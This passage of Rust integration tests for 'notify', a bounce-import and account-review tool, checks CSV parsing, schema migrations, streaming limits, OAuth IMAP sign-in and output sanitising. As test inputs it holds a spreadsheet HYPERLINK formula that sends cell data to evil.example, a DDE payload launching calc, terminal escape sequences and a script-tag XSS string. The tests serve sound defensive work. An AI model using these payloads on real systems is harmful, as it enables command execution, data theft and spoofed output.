/// row gets that reason; its kind comes from the type, else from the reason (hard only for an
/// address that is gone or wrong), so a `filtered` or `policy` row never flags at once while a
/// `user-unknown` one does; the review shows each flagged account's action. A delay warning
/// typed hard is refused with its line, and nothing of the file is imported.
async fn a_csv_of_reason_names_is_read_with_old_and_new_names(b: Backend) {
    let env = Env::new(b).await;
    env.run(&[
        "contacts",
        "import",
        env.path().join("contacts.csv").to_str().unwrap(),
    ])
    .await
    .ok();
    let csv_path = env.path().join("names.csv");
    std::fs::write(
        &csv_path,
        "email,type,reason,date\n\
         kevin.le@austintexas.gov,,user-unknown,2026-11-20\n\
         hannah.fischer@austintexas.gov,,HostUnknown,2026-11-20\n\
         emily.sato@austintexas.gov,,filtered,2026-11-20\n\
         sofia.herrera@austintexas.gov,,policy,2026-11-20\n\
         dana.whitfield@austintexas.gov,hard,Delayed,2026-11-20\n",
    )
    .unwrap();
    let run = env
        .run(&["bounces", "import", csv_path.to_str().unwrap()])
        .await;
    run.code(2);
    assert!(
        run.stderr.contains("names.csv:6:") && run.stderr.contains("`Delayed` is a delay warning"),
        "{}",
        run.stderr
    );
    assert!(!run.stderr.contains("names.csv:2:"), "{}", run.stderr);
    let show = env
        .run(&["bounces", "show", "kevin.le@austintexas.gov"])
        .await;
    assert!(show.stdout.contains("bounces (0):"), "{}", show.stdout);

    // Without the bad row: imported, two flagged at once, two soft bounces flag nobody.
    let good: String = std::fs::read_to_string(&csv_path)
        .unwrap()
        .lines()
        .filter(|l| !l.contains("Delayed"))
        .map(|l| format!("{l}\n"))
        .collect();
    std::fs::write(&csv_path, good).unwrap();
    let run = env.import_bounces(&[csv_path.to_str().unwrap()]).await;
    run.ok();
    let s = run.summary();
    assert_eq!(
        (s["hard"].as_u64(), s["soft"].as_u64()),
        (Some(2), Some(2)),
        "{s}"
    );
    let mut flagged: Vec<&str> = s["flagged"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap())
        .collect();
    flagged.sort();
    assert_eq!(
        flagged,
        ["hannah.fischer@austintexas.gov", "kevin.le@austintexas.gov"]
    );
    let rows = json_rows(
        &env.run(&["bounces", "report", "--format", "json"])
            .await
            .stdout,
    );
    let row = |e: &str| rows.iter().find(|r| r["email"] == e).unwrap().clone();
    let kevin = row("kevin.le@austintexas.gov");
    assert_eq!(
        (
            &kevin["reason"],
            &kevin["kind"],
            &kevin["permanent"],
            &kevin["action"]
        ),
        (
            &serde_json::json!("userunknown"),
            &serde_json::json!("hard"),
            &serde_json::json!(true),
            &serde_json::json!("deactivate in Moped")
        )
    );
    let hannah = row("hannah.fischer@austintexas.gov");
    assert_eq!(hannah["reason"], "hostunknown");
    assert_eq!(hannah["action"], "fix the address in Moped");
    // The soft ones are kept, with today's names.
    let show = env
        .run(&["bounces", "show", "sofia.herrera@austintexas.gov"])
        .await;
    show.ok();
    assert!(
        show.stdout.contains("soft policyviolation -") && !show.stdout.contains("NEEDS UPDATE"),
        "{}",
        show.stdout
    );
    let show = env
        .run(&["bounces", "show", "emily.sato@austintexas.gov"])
        .await;
    assert!(show.stdout.contains("soft filtered -"), "{}", show.stdout);
    env.cleanup().await;
}
both!(a_csv_of_reason_names_is_read_with_old_and_new_names);

async fn review_csv_cells_cannot_become_formulas(b: Backend) {
    let env = Env::new(b).await;
    env.run(&[
        "contacts",
        "import",
        env.path().join("contacts.csv").to_str().unwrap(),
    ])
    .await
    .ok();
    let csv_path = env.path().join("b.csv");
    std::fs::write(
        &csv_path,
        "email,type,reason\nkevin.le@austintexas.gov,hard,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\") 550 5.1.1 user unknown\"\n",
    )
    .unwrap();
    env.import_bounces(&[csv_path.to_str().unwrap()]).await.ok();
    // An unverified bounce whose diagnostic starts with @ (a DSN with no token).
    let md = maildir(
        env.path(),
        &[dsn(
            "moped-bounces@austintexas.gov",
            "emily.sato@austintexas.gov",
            "5.1.1",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            None,
        )],
    );
    env.import_bounces(&[md.to_str().unwrap()]).await.ok();
    let out = env.run(&["bounces", "report", "--format", "csv"]).await;
    out.ok();
    let mut rdr = csv::ReaderBuilder::new()
        .flexible(true)
        .from_reader(out.stdout.as_bytes());
    let records: Vec<csv::StringRecord> = rdr.records().map(|r| r.unwrap()).collect();
    let cells: Vec<&str> = records.iter().flat_map(|r| r.iter()).collect();
    assert!(
        cells.contains(
            &"'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\") 550 5.1.1 user unknown"
        ),
        "{}",
        out.stdout
    );
    assert!(
        cells.iter().any(|c| c.starts_with("'@SUM(1+1)")),
        "{}",
        out.stdout
    );
    for c in &cells {
        assert!(
            !c.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a cell a spreadsheet would evaluate: {c:?}"
        );
    }
    let only = env
        .run(&["bounces", "report", "--unverified", "--format", "csv"])
        .await;
    only.ok();
    assert!(only.stdout.contains("'@SUM(1+1)"), "{}", only.stdout);
    assert!(!only.stdout.contains(",@SUM"), "{}", only.stdout);
    env.cleanup().await;
}
both!(review_csv_cells_cannot_become_formulas);

async fn escape_sequences_from_mail_are_never_printed_raw(b: Backend) {
    let env = Env::new(b).await;
    env.run(&[
        "contacts",
        "import",
        env.path().join("contacts.csv").to_str().unwrap(),
    ])
    .await
    .ok();
    let victim = "kevin.le@austintexas.gov";
    let hostile = "550 5.1.1 \u{1b}[2J\u{1b}]0;owned\u{7}User unknown\u{9b}31m \u{202e}gnp.exe <script>alert(1)</script>";
    let m = dsn(
        "moped-bounces@austintexas.gov",
        victim,
        "5.1.1",
        hostile,
        None,
    )
    .replace(
        "Subject: Undelivered",
        "X-Evil: \u{1b}[31mred\u{1b}[0m\r\nSubject: Undelivered",
    );
    let file = env.path().join("hostile.eml");
    std::fs::write(&file, &m).unwrap();
    let raw_escape = |s: &str| {
        s.chars()
            .any(|c| (c.is_control() && c != '\n' && c != '\t') || c == '\u{202e}')
    };
    for format in ["table", "json"] {
        let parse = env
            .run(&[
                "bounces",
                "parse",
                "--format",
                format,
                file.to_str().unwrap(),
            ])
            .await;
        parse.ok();
        assert!(
            !raw_escape(&parse.stdout),
            "parse {format}: {:?}",
            parse.stdout
        );
        assert!(parse.stdout.contains(victim), "{}", parse.stdout);
    }
    // JSON keeps the text, escaped: parsed back, it is what the mail said.
    let json = env
        .run(&[
            "bounces",
            "parse",
            "--format",
            "json",
            file.to_str().unwrap(),
        ])
        .await;
    let v: serde_json::Value = serde_json::from_str(json.stdout.trim()).unwrap();
    let diag = v["bounces"][0]["diagnostic"].as_str().unwrap();
    assert!(
        diag.contains('\u{1b}') && diag.contains('\u{202e}'),
        "{diag:?}"
    );
    let table = env.run(&["bounces", "parse", file.to_str().unwrap()]).await;
    assert!(table.stdout.contains("\\x1b[2J"), "{}", table.stdout);

    env.import_bounces(&[file.to_str().unwrap()]).await.ok();
    for args in [
        vec!["bounces", "show", victim],
        vec!["bounces", "show", victim, "--raw"],
        vec!["bounces", "report"],
        vec!["bounces", "report", "--unverified"],
        vec!["bounces", "report", "--format", "html"],
        vec!["bounces", "report", "--unverified", "--format", "json"],
    ] {
        let run = env.run(&args).await;
        run.ok();
        assert!(!raw_escape(&run.stdout), "{args:?}: {:?}", run.stdout);
        assert!(run.stdout.contains(victim), "{args:?}: {}", run.stdout);
    }
    let raw = env.run(&["bounces", "show", victim, "--raw"]).await;
    assert!(
        raw.stdout.contains("X-Evil: \\x1b[31mred"),
        "{}",
        raw.stdout
    );
    // The HTML report escapes markup taken from mail too.
    let html = env.run(&["bounces", "report", "--format", "html"]).await;
    assert!(
        html.stdout
            .contains("&lt;script&gt;alert(1)&lt;/script&gt;")
            && !html.stdout.contains("<script"),
        "{}",
        html.stdout
    );
    env.cleanup().await;
}
both!(escape_sequences_from_mail_are_never_printed_raw);

async fn an_mbox_is_read_as_a_stream_from_a_file_and_from_stdin(b: Backend) {
    let env = Env::new(b).await;
    let m = dsn(
        "moped-bounces@austintexas.gov",
        "sofia.herrera@austintexas.gov",
        "5.1.1",
        "550 5.1.1 User unknown",
        None,
    )
    .replace("\r\n", "\n");
    // 300 bounces, one over the size limit in the middle, and a `>From ` line.
    let mut mbox = String::new();
    for i in 0..300 {
        mbox.push_str("From MAILER-DAEMON Thu Dec  3 17:20:00 2026\n");
        if i == 150 {
            mbox.push_str(&"x".repeat(11 * 1024 * 1024));
            mbox.push('\n');
        } else {
            mbox.push_str(&m.replace("Undelivered Mail", &format!("Undelivered Mail {i}")));
            mbox.push_str(">From the body\n");
        }
        mbox.push('\n');
    }
    let path = env.path().join("big.mbox");
    std::fs::write(&path, &mbox).unwrap();
    let run = env
        .run(&[
            "bounces",
            "parse",
            "--format",
            "json",
            path.to_str().unwrap(),
        ])
        .await;
    run.ok();
    let lines: Vec<serde_json::Value> = run
        .stdout
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 300);
    assert_eq!(lines[0]["source"], format!("{}:1", path.display()));
    assert_eq!(
        lines[0]["bounces"][0]["address"],
        "sofia.herrera@austintexas.gov"
    );
    assert_eq!(lines[150]["bounces"], serde_json::json!([]));
    assert!(
        run.stderr
            .contains(&format!("skipped {}:151", path.display()))
            && run.stderr.contains("limit"),
        "{}",
        run.stderr
    );
    // The same through standard input.
    let mut cmd = tokio::process::Command::new(crate::harness::BIN);
    let mut child = cmd
        .args(["bounces", "parse", "--format", "json", "-"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let bytes = mbox.into_bytes();
    let writer = tokio::spawn(async move {
        use tokio::io::AsyncWriteExt;
        stdin.write_all(&bytes).await.unwrap();
    });
    let out = child.wait_with_output().await.unwrap();
    writer.await.unwrap();
    assert!(out.status.success());
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(stdout.lines().count(), 300);
    assert!(stdout
        .lines()
        .next()
        .unwrap()
        .contains("\"source\":\"-:1\""));
    // Imported: 299 bounces of one address, every message its own source.
    let run = env.import_bounces(&[path.to_str().unwrap()]).await;
    run.ok();
    assert_eq!(run.summary()["read"], 300);
    assert_eq!(run.summary()["skipped"], 1);
    assert_eq!(run.summary()["bounces"], 299);
    env.cleanup().await;
}
both!(an_mbox_is_read_as_a_stream_from_a_file_and_from_stdin);

async fn input_that_never_ends_a_line_is_skipped_not_read_into_memory(b: Backend) {
    let env = Env::new(b).await;
    // /dev/zero: read up to the limit and skipped, by path and through standard input.
    let run = env
        .run(&["bounces", "parse", "--format", "json", "/dev/zero"])
        .await;
    run.ok();
    assert!(
        run.stderr.contains("skipped /dev/zero") && run.stderr.contains("limit"),
        "{}",
        run.stderr
    );
    let out = tokio::process::Command::new(crate::harness::BIN)
        .args(["bounces", "parse", "-"])
        .stdin(std::fs::File::open("/dev/zero").unwrap())
        .output()
        .await
        .unwrap();
    assert!(out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("skipped -"));
    // Imported the same way: skipped, nothing recorded.
    let run = env.import_bounces(&["/dev/zero"]).await;
    run.ok();
    assert_eq!(run.summary()["skipped"], 1, "{}", run.stdout);
    assert_eq!(run.summary()["bounces"], 0, "{}", run.stdout);
    // A CSV over the limit is refused with its name.
    let csv = env.path().join("huge.csv");
    let mut data = String::from("email,type,reason\n");
    while data.len() <= 10 * 1024 * 1024 {
        data.push_str("kevin.le@austintexas.gov,hard,550 5.1.1 user unknown\n");
    }
    std::fs::write(&csv, data).unwrap();
    let run = env.run(&["bounces", "import", csv.to_str().unwrap()]).await;
    run.code(2);
    assert!(
        run.stderr.contains("huge.csv") && run.stderr.contains("split it"),
        "{}",
        run.stderr
    );
    env.cleanup().await;
}
both!(input_that_never_ends_a_line_is_skipped_not_read_into_memory);

/// The environment's database at an earlier schema: every migration numbered below `before`
/// applied, none after; the pool to fill it with rows of that time.
async fn old_schema(env: &Env, b: Backend, before: &str) -> sqlx::AnyPool {
    let backend = match b {
        Backend::Sqlite => "sqlite",
        Backend::Postgres => "postgres",
    };
    let old = env.path().join(format!("migrations-before-{before}"));
    std::fs::create_dir_all(&old).unwrap();
    for f in std::fs::read_dir(
        Path::new(crate::harness::REPO)
            .join("migrations")
            .join(backend),
    )
    .unwrap()
    .flatten()
    {
        let name = f.file_name().to_string_lossy().into_owned();
        if name.as_str() < before {
            std::fs::copy(f.path(), old.join(&name)).unwrap();
        }
    }
    sqlx::any::install_default_drivers();
    let pool = sqlx::AnyPool::connect(&env.database_url).await.unwrap();
    sqlx::migrate::Migrator::new(old.as_path())
        .await
        .unwrap()
        .run(&pool)
        .await
        .unwrap();
    pool
}

async fn a_database_from_before_verification_migrates_and_keeps_only_proven_flags(b: Backend) {
    use sqlx::Executor;
    let env = Env::new(b).await;
    // The schema as it was before bounces were verified: migrations 0001-0006 only.
    let pool = old_schema(&env, b, "0007").await;
    let t = "2026-11-20T10:00:00.000000Z";
    // Three contacts flagged the old way: by a VERP-matched bounce, by a CSV row, and by a
    // bounce matched only by address.
    pool.execute(
        format!(
            "INSERT INTO contacts (id, user_id, email, is_user_group_member, created_at, updated_at, flagged_at, needs_update) VALUES \
             (1, 2, 'james.obrien@austintexas.gov', 1, '{t}', '{t}', '{t}', 1), \
             (2, 3, 'priya.raman@austintexas.gov', 1, '{t}', '{t}', '{t}', 1), \
             (3, 6, 'kevin.le@austintexas.gov', 1, '{t}', '{t}', '{t}', 1); \
             INSERT INTO campaigns (id, key, notice, subject, created_at) VALUES (1, 'release-notes/v3.11.0', 'release-notes', 's', '{t}'); \
             INSERT INTO sends (id, campaign_id, contact_id, email, state, message_id, created_at, updated_at) VALUES \
             (1, 1, 1, 'james.obrien@austintexas.gov', 'sent', '<1@notify>', '{t}', '{t}'); \
             INSERT INTO bounce_sources (id, source_key, origin, raw, created_at) VALUES \
             (1, 'msg:1', 'old/1.eml', '', '{t}'), (2, 'csv:2', 'old.csv:2', '', '{t}'), (3, 'msg:3', 'old/3.eml', '', '{t}'); \
             INSERT INTO bounces (source_id, address, kind, status, reason, contact_id, send_id, campaign_id, matched_by, occurred_at, created_at) VALUES \
             (1, 'james.obrien@austintexas.gov', 'hard', '5.1.1', 'user-unknown', 1, 1, 1, 'verp', '{t}', '{t}'), \
             (2, 'priya.raman@austintexas.gov', 'hard', '5.1.1', 'user-unknown', 2, NULL, NULL, 'address', '{t}', '{t}'), \
             (3, 'kevin.le@austintexas.gov', 'hard', '5.1.1', 'user-unknown', 3, NULL, NULL, 'address', '{t}', '{t}')"
        )
        .as_str(),
    )
    .await
    .unwrap();
    pool.close().await;

    // The binary migrates it (0007) and reads it.
    let report = env.run(&["bounces", "report", "--format", "json"]).await;
    report.ok();
    let mut flagged: Vec<String> = json_rows(&report.stdout)
        .iter()
        .map(|r| r["email"].as_str().unwrap().to_string())
        .collect();
    flagged.sort();
    assert_eq!(
        flagged,
        [
            "james.obrien@austintexas.gov",
            "priya.raman@austintexas.gov"
        ]
    );
    let unverified = json_rows(
        &env.run(&["bounces", "report", "--unverified", "--format", "json"])
            .await
            .stdout,
    );
    assert_eq!(unverified.len(), 1);
    assert_eq!(unverified[0]["email"], "kevin.le@austintexas.gov");
    assert!(unverified[0]["why"]
        .as_str()
        .unwrap()
        .contains("before bounces were verified"));
    let show = env
        .run(&["bounces", "show", "kevin.le@austintexas.gov"])
        .await;
    show.ok();
    assert!(
        show.stdout.contains("unflagged: flag lifted on upgrade")
            && !show.stdout.contains("NEEDS UPDATE"),
        "{}",
        show.stdout
    );
    env.cleanup().await;
}
both!(a_database_from_before_verification_migrates_and_keeps_only_proven_flags);

/// A database from before the finer reasons (migrations up to 0009), with bounces stored under
/// the old names and kinds, is migrated by the binary (0010): the reasons read back with today's
/// names, `permanent` comes from the stored status, only an unknown user, an unknown domain or a
/// moved mailbox stays hard, and flags that no counted bounce supports any more are lifted with
/// a line in the history (a flag set by a hard bounce that is soft now, a flag set by delay
/// warnings alone). The review then shows each flagged account's action.
async fn a_database_with_the_old_reason_names_migrates_to_the_new_ones(b: Backend) {
    use sqlx::Executor;
    let env = Env::new(b).await;
    let pool = old_schema(&env, b, "0010").await;
    let t = "2026-11-20T10:00:00.000000Z";
    let people = [
        // (id, email, flag note, [(status, kind, reason, diagnostic)])
        (
            1,
            "ana.gone@austintexas.gov",
            "hard bounce (user-unknown, 5.1.1) on release-notes/v3.11.0",
            vec![(
                "'5.1.1'",
                "hard",
                "user-unknown",
                "'550 5.1.1 User unknown'",
            )],
        ),
        (
            2,
            "ben.moved@austintexas.gov",
            "hard bounce (user-unknown, 5.1.6) on release-notes/v3.11.0",
            vec![(
                "'5.1.6'",
                "hard",
                "user-unknown",
                "'550 5.1.6 Mailbox has moved'",
            )],
        ),
        (
            3,
            "cy.other@austintexas.gov",
            "hard bounce (other) on release-notes/v3.11.0",
            vec![("NULL", "hard", "other", "'554 Delivery error'")],
        ),
        (
            4,
            "di.expired@austintexas.gov",
            "hard bounce (expired, 4.4.7) on release-notes/v3.11.0",
            vec![("'4.4.7'", "hard", "expired", "'retry timeout exceeded'")],
        ),
        (
            5,
            "ed.delayed@austintexas.gov",
            "soft bounces on 3 different notices within 30 days (a, b, c)",
            vec![
                ("'4.4.1'", "soft", "delayed", "NULL"),
                ("'4.4.1'", "soft", "delayed", "NULL"),
                ("'4.4.1'", "soft", "delayed", "NULL"),
            ],
        ),
        (
            6,
            "flo.full@austintexas.gov",
            "soft bounces on 3 different notices within 30 days (a, b, c)",
            vec![
                (
                    "'4.2.2'",
                    "soft",
                    "mailbox-full",
                    "'452 4.2.2 Mailbox full'",
                ),
                (
                    "'5.2.2'",
                    "soft",
                    "mailbox-full",
                    "'552 5.2.2 Mailbox full'",
                ),
                ("NULL", "soft", "mailbox-full", "NULL"),
            ],
        ),
        (
            7,
            "gus.policy@austintexas.gov",
            "hard bounce (policy, 5.7.1) on release-notes/v3.11.0",
            vec![
                (
                    "'5.7.1'",
                    "hard",
                    "policy",
                    "'550 5.7.1 Rejected by policy'",
                ),
                (
                    "'5.1.2'",
                    "hard",
                    "host-unknown",
                    "'550 5.1.2 Host unknown'",
                ),
                ("NULL", "soft", "message-too-large", "NULL"),
            ],
        ),
    ];
    let mut sql = String::new();
    let mut source = 0;
    for (id, email, note, bounces) in &people {
        sql.push_str(&format!(
            "INSERT INTO contacts (id, user_id, email, is_user_group_member, created_at, updated_at, flagged_at, needs_update) \
             VALUES ({id}, {}, '{email}', 1, '{t}', '{t}', '{t}', 1); \
             INSERT INTO account_events (contact_id, event, note, created_at) VALUES ({id}, 'flagged', '{note}', '{t}'); ",
            100 + id
        ));
        for (status, kind, reason, diagnostic) in bounces {
            source += 1;
            sql.push_str(&format!(
                "INSERT INTO bounce_sources (id, source_key, origin, raw, created_at) VALUES ({source}, 'csv:{source}', 'old.csv:{source}', '', '{t}'); \
                 INSERT INTO bounces (source_id, address, kind, status, reason, diagnostic, contact_id, matched_by, occurred_at, created_at, verified) \
                 VALUES ({source}, '{email}', '{kind}', {status}, '{reason}', {diagnostic}, {id}, 'address', '{t}', '{t}', 1); "
            ));
        }
    }
    pool.execute(sql.as_str()).await.unwrap();
    pool.close().await;

    // The binary migrates it and reads it: the flagged accounts, with today's reasons.
    let report = env.run(&["bounces", "report", "--format", "json"]).await;
    report.ok();
    let rows = json_rows(&report.stdout);
    let got: Vec<(String, String, String, bool, String)> = rows
        .iter()
        .map(|r| {
            (
                r["email"].as_str().unwrap().to_string(),
                r["reason"].as_str().unwrap().to_string(),
                r["kind"].as_str().unwrap().to_string(),
                r["permanent"].as_bool().unwrap(),
                r["action"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    let row = |e: &str, reason: &str, kind: &str, permanent: bool, action: &str| {
        (
            e.to_string(),
            reason.to_string(),
            kind.to_string(),
            permanent,
            action.to_string(),
        )
    };
    assert_eq!(
        got,
        [
            row(
                "ana.gone@austintexas.gov",
                "userunknown",
                "hard",
                true,
                "deactivate in Moped"
            ),
            row(
                "ben.moved@austintexas.gov",
                "hasmoved",
                "hard",
                true,
                "fix the address in Moped"
            ),
            // Flagged by the repeated-soft rule, still three failures: kept, and the latest
            // failure (no code, counted as sent by the admin's CSV) decides.
            row(
                "flo.full@austintexas.gov",
                "mailboxfull",
                "soft",
                false,
                "wait"
            ),
            // Its policy refusal is soft now, but it also has an unknown host: still hard.
            row(
                "gus.policy@austintexas.gov",
                "hostunknown",
                "hard",
                true,
                "fix the address in Moped"
            ),
        ]
    );

    // Every bounce reads back with today's name and kind; permanent from the status, else the
    // diagnostic's code, else the old kind.
    let show = |e: &'static str| {
        let env = &env;
        async move {
            let run = env.run(&["bounces", "show", e]).await;
            run.ok();
            run.stdout.clone()
        }
    };
    let cy = show("cy.other@austintexas.gov").await;
    assert!(
        cy.contains("unflagged: flag lifted on upgrade: its bounces are no longer hard")
            && cy.contains("soft undefined -")
            && !cy.contains("NEEDS UPDATE"),
        "{cy}"
    );
    let di = show("di.expired@austintexas.gov").await;
    assert!(
        di.contains("unflagged: flag lifted on upgrade") && di.contains("soft expired 4.4.7"),
        "{di}"
    );
    let ed = show("ed.delayed@austintexas.gov").await;
    assert!(
        ed.contains("unflagged: flag lifted on upgrade: delay warnings no longer count")
            && ed.matches("soft expired (delayed) 4.4.1").count() == 3,
        "{ed}"
    );
    let gus = show("gus.policy@austintexas.gov").await;
    assert!(
        gus.contains("NEEDS UPDATE: fix the address in Moped (hostunknown, hard, 5.1.2)")
            && gus.contains("soft policyviolation 5.7.1")
            && gus.contains("soft mesgtoobig -")
            && !gus.contains("unflagged"),
        "{gus}"
    );
    let ana = show("ana.gone@austintexas.gov").await;
    assert!(
        ana.contains("NEEDS UPDATE: deactivate in Moped (userunknown, hard, 5.1.1)"),
        "{ana}"
    );
    // The stored values themselves, and `permanent` of each.
    let pool = sqlx::AnyPool::connect(&env.database_url).await.unwrap();
    let stored: Vec<(String, String, String, i64)> =
        sqlx::query_as("SELECT address, kind, reason, permanent FROM bounces ORDER BY id")
            .fetch_all(&pool)
            .await
            .unwrap();
    let stored: Vec<(&str, &str, &str, i64)> = stored
        .iter()
        .map(|(a, k, r, p)| (a.split('@').next().unwrap(), k.as_str(), r.as_str(), *p))
        .collect();
    assert_eq!(
        stored,
        [
            ("ana.gone", "hard", "userunknown", 1),
            ("ben.moved", "hard", "hasmoved", 1),
            ("cy.other", "soft", "undefined", 1),
            ("di.expired", "soft", "expired", 0),
            ("ed.delayed", "soft", "expired", 0),
            ("ed.delayed", "soft", "expired", 0),
            ("ed.delayed", "soft", "expired", 0),
            ("flo.full", "soft", "mailboxfull", 0),
            ("flo.full", "soft", "mailboxfull", 1),
            ("flo.full", "soft", "mailboxfull", 0),
            ("gus.policy", "soft", "policyviolation", 1),
            ("gus.policy", "hard", "hostunknown", 1),
            ("gus.policy", "soft", "mesgtoobig", 0),
        ]
    );
    // The delay warnings stored as the reason `delayed` are delayed `expired` rows now.
    let delayed: Vec<(String,)> =
        sqlx::query_as("SELECT address FROM bounces WHERE delayed = 1 ORDER BY id")
            .fetch_all(&pool)
            .await
            .unwrap();
    assert_eq!(
        delayed,
        vec![("ed.delayed@austintexas.gov".to_string(),); 3],
        "only the delay warnings are delayed"
    );

    // A reason no version of notify wrote is a decode error naming it, and changes nothing.
    pool.execute(
        format!(
            "INSERT INTO bounce_sources (id, source_key, origin, raw, created_at) VALUES (99, 'csv:99', 'x', '', '{t}'); \
             INSERT INTO bounces (source_id, address, kind, status, reason, contact_id, matched_by, occurred_at, created_at) \
             VALUES (99, 'ana.gone@austintexas.gov', 'soft', NULL, 'gremlins', 1, 'address', '{t}', '{t}')"
        )
        .as_str(),
    )
    .await
    .unwrap();
    pool.close().await;
    let bad = env
        .run(&["bounces", "show", "ana.gone@austintexas.gov"])
        .await;
    assert_ne!(bad.code, 0, "{}", bad.stdout);
    assert!(
        bad.stderr.contains("unknown bounce reason `gremlins`"),
        "{}",
        bad.stderr
    );
    env.cleanup().await;
}
both!(a_database_with_the_old_reason_names_migrates_to_the_new_ones);

/// The README's table of reasons lists every reason once, in the vocabulary's order, each with
/// the action the review suggests for it: the table cannot drift from the code.
#[test]
fn the_readme_lists_every_reason_with_its_action() {
    use notify::bounce::Reason;
    let readme = std::fs::read_to_string(Path::new(crate::harness::REPO).join("README.md"))
        .expect("README.md");
    let table = readme
        .split_once("| reason | what it means | action |\n|---|---|---|\n")
        .expect("the README's table of reasons")
        .1;
    let rows: Vec<(String, String)> = table
        .lines()
        .take_while(|l| l.starts_with('|'))
        .map(|l| {
            let cells: Vec<&str> = l.trim_matches('|').split(" | ").map(str::trim).collect();
            assert_eq!(cells.len(), 3, "{l}");
            (cells[0].trim_matches('`').to_string(), cells[2].to_string())
        })
        .collect();
    let expected: Vec<(String, String)> = Reason::ALL
        .iter()
        .map(|r| (r.as_str().to_string(), r.action().text().to_string()))
        .collect();
    assert_eq!(rows, expected);
}

/// `notify bounces import --imap` with no password configured signs in to Dovecot (its oauth2
/// passdb asking the test OAuth server about the token) with XOAUTH2 over STARTTLS, and reads and
/// moves the bounce. A wrong client secret, and a token the IMAP server's endpoint does not know,
/// each stop the run with what to check and import nothing. No secret or token in any output,
/// even with every log line on.
async fn imap_import_signs_in_with_xoauth2(b: Backend) {
    use crate::support::dovecot::Dovecot;
    use crate::support::oauth_server::OAuthServer;
    use base64::Engine as _;
    const MAILBOX: &str = "moped-bounces";
    const CLIENT: &str = "notify-test-app";
    const SECRET: &str = "Right-Client-Secret-42";
    let mut env = Env::new(b).await;
    env.run(&["release-notes", "v3.12.0"]).await.ok();
    let gone = "emily.sato@austintexas.gov";
    let (verp, _) = outbox_envelope(&env.outbox(), gone);
    let bounce = dsn(&verp, gone, "5.1.1", "550 5.1.1 User unknown", None);
    let ooo = "From: Maria <maria.gonzalez@austintexas.gov>\r\nTo: moped@austintexas.gov\r\nSubject: Automatic reply\r\nAuto-Submitted: auto-replied\r\nDate: Thu, 03 Dec 2026 17:20:00 -0600\r\n\r\nOut of office.\r\n";
    let cert = rcgen::generate_simple_self_signed(vec!["127.0.0.2".to_string()]).expect("rcgen");
    let (cert_pem, key_pem) = (cert.cert.pem(), cert.key_pair.serialize_pem());
    let ca = env.path().join("imap-ca.pem");
    std::fs::write(&ca, &cert_pem).expect("write the CA file");
    let messages: [(&str, &[u8]); 2] = [("1.bounce", bounce.as_bytes()), ("2.ooo", ooo.as_bytes())];

    let oauth = OAuthServer::start(
        CLIENT,
        SECRET,
        MAILBOX,
        std::time::Duration::from_secs(3600),
    );
    let server = Dovecot::start_oauth2(
        MAILBOX,
        &messages,
        &cert_pem,
        &key_pem,
        &oauth.introspect_url(),
        "",
    );
    env.env("NOTIFY_OAUTH_TOKEN_URL", &oauth.token_url());
    env.env("NOTIFY_OAUTH_CLIENT_ID", CLIENT);
    env.env("NOTIFY_SMTP_CA_FILE", &ca.display().to_string());
    env.env("NOTIFY_LOG", "trace");
    let url = server.url("INBOX");
    assert!(
        url.starts_with("imap://") && !url.contains("tls=none"),
        "{url}"
    );
    // The XOAUTH2 response's first bytes (`user=moped-bounces\x01au`), as any base64 of it starts.
    let response_prefix =
        base64::engine::general_purpose::STANDARD.encode(format!("user={MAILBOX}\x01au"));
    let response_prefix = &response_prefix[..24];
    let leaks = |run: &crate::harness::Run, tokens: Vec<String>| {
        for out in [&run.stdout, &run.stderr] {
            for secret in [SECRET, "Bearer", response_prefix] {
                assert!(!out.contains(secret), "`{secret}` in the output:\n{out}");
            }
            for token in &tokens {
                assert!(
                    !out.contains(token.as_str()),
                    "a token in the output:\n{out}"
                );
            }
        }
    };

    // Neither a password nor the client secret: bad input (exit 2) saying what to give.
    let run = env.import_bounces(&["--imap", &url]).await;
    run.code(2);
    for says in [
        "NOTIFY_IMAP_PASSWORD",
        "NOTIFY_OAUTH_CLIENT_SECRET",
        "oauth_client_id",
    ] {
        assert!(run.stderr.contains(says), "{says}: {}", run.stderr);
    }

    // A wrong secret: the token endpoint refuses; IMAP is never reached, nothing is imported.
    env.env("NOTIFY_OAUTH_CLIENT_SECRET", "Wrong-Client-Secret-00");
    let run = env.import_bounces(&["--imap", &url]).await;
    run.code(1);
    assert!(
        run.stderr.contains("refused notify's client credentials"),
        "{}",
        run.stderr
    );
    assert!(
        !run.stderr.contains("Wrong-Client-Secret-00"),
        "{}",
        run.stderr
    );
    leaks(&run, oauth.issued_tokens());
    assert_eq!(oauth.issued(), 0);
    assert_eq!(oauth.introspections(), 0, "IMAP was not reached");

    // A token from another endpoint, which this Dovecot's endpoint never issued: refused by the
    // IMAP server, with what to check in Exchange.
    let other = OAuthServer::start(
        CLIENT,
        SECRET,
        MAILBOX,
        std::time::Duration::from_secs(3600),
    );
    // (A later `env.env` of the same variable wins.)
    env.env("NOTIFY_OAUTH_TOKEN_URL", &other.token_url());
    env.env("NOTIFY_OAUTH_CLIENT_SECRET", SECRET);
    let run = env.import_bounces(&["--imap", &url]).await;
    run.code(1);
    for says in [
        "refused the OAuth token",
        "IMAP.AccessAsApp",
        "Add-MailboxPermission",
        MAILBOX,
    ] {
        assert!(run.stderr.contains(says), "{says}: {}", run.stderr);
    }
    assert_eq!(other.issued(), 1);
    assert!(
        oauth.introspections() >= 1,
        "Dovecot asked its endpoint about the token"
    );
    leaks(&run, other.issued_tokens());
    assert_eq!(server.messages_on_disk(None).len(), 2, "nothing moved");

    // The right endpoint and secret: XOAUTH2 over STARTTLS, the bounce recorded and moved.
    env.env("NOTIFY_OAUTH_TOKEN_URL", &oauth.token_url());
    let run = env.import_bounces(&["--imap", &url]).await;
    run.ok();
    let s = run.summary();
    assert_eq!(s["bounces"], 1, "the refused runs imported nothing: {s}");
